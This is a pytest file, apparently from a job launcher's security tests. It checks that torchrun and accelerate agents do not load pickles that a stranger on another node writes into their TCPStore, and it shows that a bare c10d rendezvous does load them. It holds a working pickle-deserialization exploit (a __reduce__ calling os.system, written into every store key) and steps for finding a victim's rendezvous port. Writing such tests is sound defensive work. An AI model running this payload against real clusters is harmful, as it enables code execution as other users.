"""The agents of torchrun and accelerate unpickle nothing of what others put into their store."""

from __future__ import annotations

import re

import pytest

from tests.real.conftest import IMAGE, Login, on_cluster

from .conftest import Job, Stranger, start

# Without torch, so that only the agents have a store.
IDLE = """
import os, time
print("AWAKE", flush=True)
while not os.path.exists("go"):
    time.sleep(0.2)
print("DONE", flush=True)
"""
# All that is there, and the state of the c10d rendezvous, becomes a pickle that runs a command.
ATTACK = """
import base64, datetime, os, pickle, sys
from torch.distributed import TCPStore
address, port, run, proof = sys.argv[1:]
class Evil:
    def __reduce__(self):
        return os.system, (f"touch {proof}",)
seconds = datetime.timedelta(seconds=20)
store = TCPStore(address, int(port), is_master=False, timeout=seconds, wait_for_workers=False)
there = store.list_keys() if hasattr(store, "list_keys") else []
for key in {*there, "torch.rendezvous." + run, run + "/torch.rendezvous." + run}:
    store.set(key, base64.b64encode(pickle.dumps(Evil())))
print("SET", sorted(there))
"""
OF_C10D = """
torchrun --nnodes=2 --rdzv-backend=c10d --rdzv-endpoint=$MASTER_ADDR:$MASTER_PORT --rdzv-id=mine \\
  --rdzv-conf=is_host=$((1 - RANK)) --log-dir=logs idle.py
"""
BOTH = ("--nodes", "2", "--controller", "none", "--no-gate")


def attack(login: Login, bob: Stranger, job: Job, run: str) -> None:
    """Let bob, on the other node, put his pickle into the store of rank 0's agent."""
    agents = bob.sh("ps -u ada -ww -o args=", "n1")
    found = re.search(r"--(?:master-port|main_process_port|rdzv-endpoint)=(?:\S+:)?(\d+)", agents)
    assert found, agents
    address = on_cluster(["getent", "hosts", "n1"]).stdout.split()[0]
    words = [bob.write("attack.py", ATTACK), address, found[1], run, f"{login.folder}/proof"]
    done = bob.run("apptainer", "exec", IMAGE, "python3", *words, node="n2")
    assert "SET" in done.stdout, done.stdout + done.stderr


@pytest.mark.parametrize("launcher", ["torchrun", "accelerate"])
def test_a_strangers_pickle_in_the_agents_store_is_not_loaded(
    login: Login, bob: Stranger, launcher: str
) -> None:
    script = login.write("idle.py", IDLE)
    job = start(login, *BOTH, "--launcher", launcher, script)
    job.wait_for("AWAKE")
    for node in ("n1", "n2"):
        agents = bob.sh("ps -u ada -ww -o args=", node)
        assert re.search(r"--rdzv.backend=static", agents)
        assert "c10d" not in agents
    attack(login, bob, job, "none")
    login.sh("sleep 6; touch go")  # c10d's agents read the state every five seconds
    assert job.end() == 0, job.log
    assert job.log.count("| DONE") == 2
    assert login.sh("ls").split().count("proof") == 0
    for node in ("n1", "n2"):
        left = on_cluster(["ls", "-A", "/tmp"], user="root", node=node).stdout
        assert "torchelastic" not in left


def test_the_same_pickle_is_loaded_by_the_rendezvous_of_c10d(login: Login, bob: Stranger) -> None:
    """The attack that is tried above does work where nothing is done against it."""
    login.write("idle.py", IDLE)
    login.write("own.sh", OF_C10D)
    job = start(login, *BOTH, "bash", "--", "own.sh")
    job.wait_for("AWAKE")
    attack(login, bob, job, "mine")
    login.sh("timeout 30 sh -c 'until [ -e proof ]; do sleep 0.2; done'")
    login.runner("cancel", job.id)
